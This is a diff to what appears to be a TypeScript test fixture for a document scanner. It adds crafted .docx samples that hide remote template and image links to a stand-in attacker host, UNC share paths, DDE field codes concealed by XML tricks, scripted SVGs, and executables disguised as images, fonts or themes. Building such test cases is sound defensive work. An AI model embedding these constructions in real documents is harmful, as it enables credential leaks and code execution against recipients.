@@ -2,9 +2,9 @@ import { docOf, docxOf, wordNamespace } from "../files.ts";
 
 type Attack = [what: string, fileName: string, data: Buffer, code: string];
 
-export function linking(type: string, target: string, mode = "External"): Buffer {
+export function linking(type: string, target: string, mode: string | null = "External"): Buffer {
   const full = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;
-  const data = `<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="rId1" Type="${full}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
+  const data = `<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="rId1" Type="${full}" Target="${target}"${mode === null ? "" : ` TargetMode="${mode}"`}/></Relationships>`;
   return docxOf([{ name: "word/_rels/settings.xml.rels", data }]);
 }
 
@@ -41,7 +41,93 @@ const addIn = (store: string) =>
     { types: { "word/webextensions/webextension1.xml": "application/vnd.ms-office.webextension+xml" } },
   );
 
+const share = "file://angripare.example/x.exe";
+const unc = "\\\\angripare.example\\x";
+const unmarked = [
+  ["attachedTemplate", "file://angripare.example/mall.dotm"],
+  ["attachedTemplate", "https://angripare.example/mall.dotm"],
+  ["image", "//angripare.example/a.png"],
+  ["image", unc],
+  ["hyperlink", share],
+] as const;
+const other = 'xmlns:x="urn:x"';
+const part = (name: string, type: string, data: string) => docxOf([{ name, data }], { types: { [name]: type } });
+const svg = (content: string) =>
+  part("word/media/image1.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`);
+
+/** Field codes and addresses where a reader of XML may look past them. */
+const hiddenWord: Attack[] = [
+  ...unmarked.flatMap(([type, target]) =>
+    [null, "Internal", ""].map((mode): [string, Buffer] => [
+      `121 ${type} to ${target} with the mode ${mode}`,
+      linking(type, target, mode),
+    ]),
+  ),
+  ["122 a schema on a share", inBody(`<sl:schema xmlns:sl="urn:sl" sl:manifestLocation="${share}"/>`)],
+  ["122 a schema on a site", inBody(`<sl:schema xmlns:sl="urn:sl" sl:manifestLocation="https://angripare.example/"/>`)],
+  ["123 a picture's other place", inBody(`<o:x xmlns:o="urn:o" o:althref="${share}"/>`)],
+  ["124 a place in a link's target", inBody(`<w:hyperlink w:docLocation="${share}"/>`)],
+  ["125 an unknown attribute with a share", inBody(`<w:p w:any="${unc}"/>`)],
+  ...["s", "l", "m", "n"].map((sign): [string, Buffer] => [
+    `126 a field's link behind \\${sign}`,
+    inBody(field(code(`HYPERLINK \\${sign} "${share}"`))),
+  ]),
+  ["127 a link to a program on the own disk", linking("hyperlink", "file:///C:\\Windows\\System32\\calc.exe")],
+  ["127 the same without a scheme", linking("hyperlink", "C:\\Windows\\System32\\calc.exe")],
+  ["128 a script in an SVG", svg("<script>alert(1)</script>")],
+  ["128 an event in an SVG", svg('<g onload="alert(1)"/>')],
+  ["128 a picture that an SVG fetches", svg('<image href="https://angripare.example/a.png"/>')],
+  ["128 a style that an SVG fetches", svg("<style>@import 'https://angripare.example/a'</style>")],
+  ["128 a page in an SVG", svg("<foreignObject/>")],
+  ["128 a filter that an SVG fetches", svg('<g style="filter:url(//angripare.example/a#b)"/>')],
+].map(([what, data]) => [what, "brev.docx", data, "FILE_ACTIVE"] as Attack);
+hiddenWord.push(
+  ...(
+    [
+      [
+        "129 a field's code behind an element",
+        inBody(field(`<w:r><w:instrText ${other}><x:i/>${dde}</w:instrText></w:r>`)),
+      ],
+      [
+        "129 a field's code in an element",
+        inBody(field(`<w:r><w:instrText>DDE<w:i>AUTO c:</w:i></w:instrText></w:r>`)),
+      ],
+      ["129 a field's text behind an element", inBody(field(`<w:r><w:t><w:i/>${dde}</w:t></w:r>`))],
+      [
+        "130 a base of links behind an element",
+        part(
+          "docProps/app.xml",
+          "application/vnd.openxmlformats-officedocument.extended-properties+xml",
+          `<Properties xmlns="urn:p"><HyperlinkBase><x/>${unc}</HyperlinkBase></Properties>`,
+        ),
+      ],
+      [
+        "131 a field's code behind a false one",
+        inBody(`<w:fldSimple ${other} x:instr="PAGE" w:instr="${dde.replaceAll('"', "&quot;")}"/>`),
+      ],
+      [
+        "132 a field's begin behind a false end",
+        inBody(`<w:p><w:fldChar ${other} x:fldCharType="end" w:fldCharType="begin"/></w:p>`),
+      ],
+      [
+        "133 a program that calls itself a picture",
+        part("word/media/image1.emf", "image/x-emf", "MZ\u0000".repeat(30)),
+      ],
+      ["133 a page that calls itself a picture", part("word/media/image1.png", "image/png", "<html>".repeat(30))],
+      [
+        "133 a program that calls itself a font",
+        part("word/fonts/a.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "MZ".repeat(30)),
+      ],
+      [
+        "133 a program that calls itself a theme",
+        part("word/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml", "MZ".repeat(30)),
+      ],
+    ] as [string, Buffer][]
+  ).map(([what, data]): Attack => [what, "brev.docx", data, "FILE_CONTENT"]),
+);
+
 export const activeWord: Attack[] = [
+  ...hiddenWord,
   ...(
     [
       ["83 a field that starts a program", inBody(field(code(dde)))],
